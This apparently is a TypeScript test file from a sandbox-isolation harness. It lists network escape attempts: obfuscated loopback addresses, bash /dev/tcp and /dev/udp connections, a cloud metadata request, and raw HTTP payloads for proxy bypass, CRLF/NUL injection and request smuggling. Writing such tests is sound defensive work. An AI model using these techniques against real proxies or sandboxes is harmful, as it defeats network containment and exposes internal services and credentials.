import { type Attempt, reaches, says } from '../attempt.ts';
import { allowedAddress, type Target } from '../planted-host.ts';

const group = 'network';

/** Spellings of a service on the host's own loopback, which nobody was granted. */
const spellings: readonly (readonly [what: string, authority: (target: Target) => string])[] = [
  ['127.0.0.1', ({ host }) => `127.0.0.1:${host.ports.loopback}`],
  ['localhost', ({ host }) => `localhost:${host.ports.loopback}`],
  ['LOCALHOST', ({ host }) => `LOCALHOST:${host.ports.loopback}`],
  ['127.1', ({ host }) => `127.1:${host.ports.loopback}`],
  ['a decimal address', ({ host }) => `2130706433:${host.ports.loopback}`],
  ['a hexadecimal address', ({ host }) => `0x7f000001:${host.ports.loopback}`],
  ['an octal address', ({ host }) => `0177.0.0.1:${host.ports.loopback}`],
  ['0.0.0.0', ({ host }) => `0.0.0.0:${host.ports.loopback}`],
  ['[::1]', ({ host }) => `[::1]:${host.ports.six}`],
  ['a mapped IPv6 address', ({ host }) => `[::ffff:127.0.0.1]:${host.ports.loopback}`],
  ['an IPv6 address with a zone', ({ host }) => `[::1%25lo]:${host.ports.six}`],
  ['the granted host as user name', ({ host }) => `${allowedAddress}:x@127.0.0.1:${host.ports.loopback}`],
  ['another port of the granted host', ({ host }) => `${allowedAddress}:${host.ports.otherPort}`],
];

const curl = 'curl -sg -m 8';

const direct: readonly Attempt[] = [
  reaches(
    group,
    'the host’s loopback directly, ignoring the proxy',
    ({ host, mark }) => `python3 attack.py tcp 127.0.0.1 ${host.ports.loopback} ${mark}`,
  ),
  reaches(group, 'the same over IPv6', ({ host, mark }) => `python3 attack.py tcp ::1 ${host.ports.six} ${mark}`),
  reaches(
    group,
    'the granted host directly, ignoring the proxy',
    ({ host, mark }) => `python3 attack.py tcp ${allowedAddress} ${host.ports.allowed} ${mark}`,
  ),
  reaches(
    group,
    'the machine by its own address',
    ({ host, mark }) =>
      `${curl} http://${host.ownAddress}:${host.ports.every}/${mark}; python3 attack.py tcp ${host.ownAddress} ${host.ports.every} ${mark}`,
    {
      unavailable: ({ ownAddress }) => (ownAddress === undefined ? 'the machine has no address of its own' : undefined),
    },
  ),
  reaches(
    group,
    'UDP to the host’s loopback',
    ({ host, mark }) => `python3 attack.py udp 127.0.0.1 ${host.ports.udp} ${mark}`,
  ),
  reaches(
    group,
    'UDP by bash’s own /dev/udp',
    ({ host, mark }) => `bash -c 'echo ${mark} > /dev/udp/127.0.0.1/${host.ports.udp}'`,
  ),
  reaches(
    group,
    'bash’s own /dev/tcp',
    ({ host, mark }) => `bash -c 'exec 3<>/dev/tcp/127.0.0.1/${host.ports.loopback}; echo ${mark} >&3; head -1 <&3'`,
  ),
  reaches(
    group,
    'MPTCP',
    ({ host, mark }) =>
      `python3 -c 'import socket; s=socket.socket(socket.AF_INET,socket.SOCK_STREAM,262); s.connect(("127.0.0.1",${host.ports.loopback})); s.send(b"${mark}"); s.recv(10)'`,
  ),
  reaches(
    group,
    'TCP fast open',
    ({ host, mark }) =>
      `python3 -c 'import socket; s=socket.socket(); s.sendto(b"${mark}",0x20000000,("127.0.0.1",${host.ports.loopback})); s.recv(10)'`,
  ),
  reaches(
    group,
    'a connection bound to the granted host’s address',
    ({ host, mark }) =>
      `python3 -c 'import socket; s=socket.create_connection(("127.0.0.1",${host.ports.loopback}),8,("${allowedAddress}",0)); s.send(b"${mark}"); s.recv(10)'`,
  ),
  says(
    group,
    'an ICMP echo to the machine’s own address',
    ({ host }) => `./net ping ${host.ownAddress}`,
    /ping[^:]*: OK/u,
    {
      unavailable: ({ ownAddress }) => (ownAddress === undefined ? 'the machine has no address of its own' : undefined),
    },
  ),
  says(group, 'the metadata service at 169.254.169.254', () => `${curl} http://169.254.169.254/latest/`, /\S/u, {
    unavailable: () => 'this machine has none',
  }),
];

const raw = (what: string, chunks: (target: Target) => readonly string[]): Attempt =>
  reaches(
    group,
    what,
    (target) =>
      `python3 attack.py ask '127.0.0.1:${target.host.ports.loopback}' ${chunks(target)
        .map((chunk) => `'${chunk}'`)
        .join(' ')}`,
    {
      seen: 'that very service outside heard the mark',
      // The granted host may hear whatever it is sent.
      succeeded: async ({ host, mark }) =>
        (await host.heard()).some(({ reached, data }) => reached === 'tcp:127.0.0.1' && data.includes(mark)),
    },
  );
const end = '\\r\\nConnection: close\\r\\n\\r\\n';
const bad = ({ host }: Target) => `127.0.0.1:${host.ports.loopback}`;
const good = ({ host }: Target) => `${allowedAddress}:${host.ports.allowed}`;

/** Bytes no client library would send; without a proxy they go straight to the service, which is the control. */
const proxied: readonly Attempt[] = [
  raw('CONNECT to the host’s loopback', (t) => [
    `CONNECT ${bad(t)} HTTP/1.1\\r\\nHost: ${bad(t)}\\r\\n\\r\\n`,
    `GET /${t.mark} HTTP/1.0\\r\\n\\r\\n`,
  ]),
  raw('CONNECT with the granted host as Host', (t) => [
    `CONNECT ${bad(t)} HTTP/1.1\\r\\nHost: ${good(t)}\\r\\n\\r\\n`,
    `GET /${t.mark} HTTP/1.0\\r\\n\\r\\n`,
  ]),
  raw('an absolute request with the granted host as Host', (t) => [
    `GET http://${bad(t)}/${t.mark} HTTP/1.1\\r\\nHost: ${good(t)}${end}`,
  ]),
  raw('NUL behind the granted host’s name', (t) => [
    `GET http://${bad(t)}\\x00.${allowedAddress}/${t.mark} HTTP/1.1\\r\\nHost: ${bad(t)}\\x00.${allowedAddress}${end}`,
  ]),
  raw('a line break in the target', (t) => [
    `CONNECT ${good(t)}\\r\\nHost: ${bad(t)}\\r\\n\\r\\nGET http://${bad(t)}/${t.mark} HTTP/1.1\\r\\nHost: ${bad(t)}${end}`,
  ]),
  raw('full-width digits', (t) => [
    `GET http://\\xef\\xbc\\x91127.0.0.1:${t.host.ports.loopback}/${t.mark} HTTP/1.1\\r\\nHost: ${bad(t)}${end}`,
  ]),
  raw('a second request for another host on an allowed connection', (t) => [
    `GET http://${good(t)}/ HTTP/1.1\\r\\nHost: ${good(t)}\\r\\n\\r\\n`,
    `GET http://${bad(t)}/${t.mark} HTTP/1.1\\r\\nHost: ${bad(t)}${end}`,
  ]),
  raw('a request hidden behind two lengths', (t) => [
    `POST http://${good(t)}/ HTTP/1.1\\r\\nHost: ${good(t)}\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://${bad(t)}/${t.mark} HTTP/1.1\\r\\nHost: ${bad(t)}${end}`,
  ]),
  reaches(
    group,
    'an allowed connection whose Host names somebody else',
    (t) =>
      `python3 attack.py ask '${good(t)}' 'GET http://${good(t)}/ HTTP/1.1\\r\\nHost: ${t.mark}.example.org${end}'`,
  ),
  reaches(
    group,
    'a tunnel to the granted host whose first request names another',
    (t) =>
      `python3 attack.py ask '${good(t)}' 'CONNECT ${good(t)} HTTP/1.1\\r\\nHost: ${good(t)}\\r\\n\\r\\n' 'GET / HTTP/1.1\\r\\nHost: ${t.mark}.example.org${end}'`,
  ),
  reaches(
    group,
    'a tunnel to the granted host with TLS for another name',
    (t) => `python3 attack.py hello '${good(t)}' '${t.mark}.example.org' '${good(t)}'`,
  ),
  reaches(
    group,
    'SOCKS5 to the host’s loopback',
    ({ host, mark }) =>
      `${curl} \${ALL_PROXY:+-x "$ALL_PROXY"} --noproxy '' http://127.0.0.1:${host.ports.loopback}/${mark}`,
  ),
];

export const networkAttempts: readonly Attempt[] = [
  ...direct,
  ...spellings.map(([what, authority]) =>
    reaches(
      group,
      `a service of the host as ${what}`,
      (t) => `${curl} --noproxy '' 'http://${authority(t)}/${t.mark}'`,
    ),
  ),
  ...proxied,
];
